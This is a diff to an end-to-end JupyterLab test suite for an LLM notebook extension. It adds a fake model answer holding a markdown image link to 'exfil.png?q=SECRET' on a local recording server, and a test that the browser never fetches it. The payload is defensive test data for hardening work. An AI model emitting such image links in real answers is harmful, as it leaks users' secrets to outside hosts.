@@ -79,6 +79,73 @@ def _notebook(path: Path) -> None:
     nbformat.write(nb, str(path))
 
 
+PICTURE_ANSWER = (
+    "Here it is: ![chart]({sink}/exfil.png?q=SECRET) and a local dot "
+    "![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGP4"
+    "z8DwHwAFAAH/iZk9HQAAAABJRU5ErkJggg==)"
+)
+
+
+def _answer(body: dict[str, Any]) -> str:
+    last = body["messages"][-1]["content"]
+    text = last if isinstance(last, str) else " ".join(p.get("text", "") for p in last)
+    if "picture" in text:
+        return PICTURE_ANSWER.format(sink=os.environ["LLM_MAGICS_TEST_SINK"])
+    return ANSWER
+
+
+def _safety_notebook(path: Path) -> None:
+    import nbformat
+
+    nb = nbformat.v4.new_notebook()
+    nb.cells = [
+        nbformat.v4.new_code_cell(
+            "import os\nimport llm_magics as lm\n%load_ext llm_magics\n"
+            "url = os.environ['FAKE_LLM_URL']\n%llm register fake $url --model m\n"
+            "lm.set_price('fake:m', input=0.15, output=0.6)"
+        ),
+        nbformat.v4.new_code_cell("%%llm fake --no-cache\nShow me a picture"),
+        nbformat.v4.new_code_cell("%%llm fake --no-stream\nA question asked twice"),
+        nbformat.v4.new_code_cell("%%llm fake --no-stream\nA question asked twice"),
+        nbformat.v4.new_code_cell("%llm usage"),
+    ]
+    nb.metadata["kernelspec"] = {
+        "name": "python3",
+        "display_name": "Python 3",
+        "language": "python",
+    }
+    nbformat.write(nb, str(path))
+
+
+class _Sink:
+    """An HTTP server that records every request: a remote image the browser fetches."""
+
+    def __init__(self) -> None:
+        import http.server
+        import threading
+
+        self.paths: list[str] = []
+        sink = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                sink.paths.append(self.path)
+                self.send_response(404)
+                self.end_headers()
+
+            def log_message(self, *args: Any) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+        self.thread.start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
 def _frame_notebook(path: Path) -> None:
     import nbformat
 
@@ -111,7 +178,11 @@ def lab(tmp_path: Path) -> Iterator[dict[str, Any]]:
     root.mkdir()
     _notebook(root / "stream.ipynb")
     _frame_notebook(root / "frame.ipynb")
+    _safety_notebook(root / "safety.ipynb")
+    sink = _Sink()
     env = dict(os.environ)
+    env["LLM_MAGICS_TEST_SINK"] = sink.url
+    os.environ["LLM_MAGICS_TEST_SINK"] = sink.url  # for the fake server's answers
     for name in (
         "JUPYTER_CONFIG_DIR",
         "JUPYTER_RUNTIME_DIR",
@@ -132,7 +203,7 @@ def lab(tmp_path: Path) -> Iterator[dict[str, Any]]:
     (docmanager / "plugin.jupyterlab-settings").write_text(
         json.dumps({"autoStartDefaultKernel": True})
     )
-    server = FakeOpenAIServer(answer=lambda body: ANSWER, chunk_delay=0.12, stream_chunk_words=1)
+    server = FakeOpenAIServer(answer=_answer, chunk_delay=0.12, stream_chunk_words=1)
     server.start()
     env["FAKE_LLM_URL"] = server.base_url
     port = _free_port()
@@ -165,7 +236,7 @@ def lab(tmp_path: Path) -> Iterator[dict[str, Any]]:
                         "JupyterLab did not start:\n" + (tmp_path / "jupyterlab.log").read_text()
                     ) from None
                 time.sleep(0.25)
-        yield {"base": base, "server": server}
+        yield {"base": base, "server": server, "sink": sink}
     finally:
         process.terminate()
         try:
@@ -175,6 +246,8 @@ def lab(tmp_path: Path) -> Iterator[dict[str, Any]]:
             process.wait(5)
         log.close()
         server.stop()
+        sink.close()
+        os.environ.pop("LLM_MAGICS_TEST_SINK", None)
 
 
 def _output_text(page: Any, index: int) -> str:
@@ -300,4 +373,69 @@ def test_the_dataframe_progress_widget_renders_and_reports_every_row(lab: dict[s
             if page is not None:
                 ARTIFACTS.mkdir(exist_ok=True)
                 page.screenshot(path=str(ARTIFACTS / "jupyterlab_progress.png"), full_page=True)
+            browser.close()
+
+
+def test_tables_read_as_money_and_a_remote_image_in_an_answer_is_never_fetched(
+    lab: dict[str, Any],
+) -> None:
+    # Cases 4 and 17 of the hardening issue, as a person meets them in JupyterLab.
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
+        page = None
+        try:
+            page = browser.new_page(viewport={"width": 1280, "height": 1400})
+            _open_and_run_all(page, lab["base"], "safety.ipynb")
+            page.wait_for_function(
+                "() => document.querySelectorAll('.jp-Notebook .jp-Cell')[4]"
+                ".querySelector('.jp-OutputArea table')",
+                timeout=90_000,
+            )
+            answer = page.evaluate(
+                """() => {
+                    const cell = document.querySelectorAll('.jp-Notebook .jp-Cell')[1];
+                    const md = cell.querySelector('.jp-RenderedMarkdown');
+                    return {
+                        images: [...md.querySelectorAll('img')].map(i => i.getAttribute('src')),
+                        links: [...md.querySelectorAll('a')].map(a => a.innerText),
+                    };
+                }"""
+            )
+            assert all(src.startswith("data:") for src in answer["images"]), answer
+            assert len(answer["images"]) == 1, "the local data: image still shows"
+            assert any("chart" in text for text in answer["links"]), answer
+            table = page.evaluate(
+                """() => {
+                    const cell = document.querySelectorAll('.jp-Notebook .jp-Cell')[4];
+                    const t = cell.querySelector('.jp-OutputArea table');
+                    return {
+                        head: [...t.querySelectorAll('th')].map(c => c.innerText.trim()),
+                        rows: [...t.querySelectorAll('tbody tr')].map(
+                            r => [...r.querySelectorAll('td')].map(c => c.innerText.trim())),
+                        math: !!cell.querySelector('mjx-container, .MathJax, .katex'),
+                    };
+                }"""
+            )
+            assert table["head"] == [
+                "model",
+                "calls",
+                "cache hits",
+                "input tok",
+                "output tok",
+                "cost",
+                "saved",
+            ]
+            assert not table["math"], "a $ in the table was rendered as a formula"
+            for row in table["rows"]:
+                assert len(row) == len(table["head"]), row
+                assert row[5].startswith("$") and row[6].startswith("$"), row
+            assert any(row[6] != "$0" for row in table["rows"]), "the cached call saved money"
+            time.sleep(1.0)  # give a fetch the browser might have started time to land
+            assert lab["sink"].paths == [], "the browser fetched the remote image"
+        finally:
+            if page is not None:
+                ARTIFACTS.mkdir(exist_ok=True)
+                page.screenshot(path=str(ARTIFACTS / "jupyterlab_safety.png"), full_page=True)
             browser.close()
